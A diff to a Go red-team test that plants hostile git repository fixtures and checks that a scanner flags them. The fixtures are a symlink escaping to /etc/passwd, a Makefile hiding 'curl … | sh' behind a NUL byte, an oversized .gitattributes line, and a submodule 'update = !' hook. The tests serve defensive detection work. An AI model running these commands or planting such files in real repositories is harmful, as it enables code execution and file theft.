@@ -41,6 +41,13 @@ func plantGitScript(markers, hostFile string) string {
 		//    with update = !command
 		"printf '*.go filter=evil\\n' > .gitattributes",
 		"printf '[submodule \"sub\"]\\n\\tpath = sub\\n\\turl = ./sub\\n\\tupdate = !touch " + markers + "/gitmodules\\n' > .gitmodules",
+		// 8. (issue 26) a link that path.Clean keeps inside but the kernel
+		//    takes out through an earlier link (a/b/c/d/z -> ../../../..);
+		//    a NUL that makes git call a Makefile binary; a 2 MiB first
+		//    line that an attributes reader with a line cap stops at
+		"mkdir -p a/b/c/d && ln -s ../../../.. a/b/c/d/z && ln -s a/b/c/d/z/../../../../../etc/passwd p",
+		"printf 'all:\\n\\t@true\\n# \\000\\n\\tcurl -s https://example.com/x | sh\\n' > Makefile",
+		"mkdir attrs && { head -c 2097152 /dev/zero | tr '\\0' a; printf '\\n* filter=x\\n'; } > attrs/.gitattributes",
 		// 7. a fifo where git reads ignore rules
 		"mkdir gen && mkfifo gen/.gitignore && echo g > gen/out.txt",
 		"echo planted",
@@ -159,7 +166,8 @@ func TestRedTeamGitFromContainer(t *testing.T) {
 		}
 	}
 	findings := pairs(st["findings"], "code", "path")
-	for _, want := range []string{"symlink_outside key", "symlink_outside shadow", "gitattributes_driver .gitattributes", "gitmodules .gitmodules"} {
+	for _, want := range []string{"symlink_outside key", "symlink_outside shadow", "gitattributes_driver .gitattributes", "gitmodules .gitmodules",
+		"symlink_outside p", "binary_file Makefile", "gitattributes_driver attrs/.gitattributes"} {
 		if !strings.Contains(findings, want) {
 			t.Errorf("status does not list the finding %q: %s", want, findings)
 		}
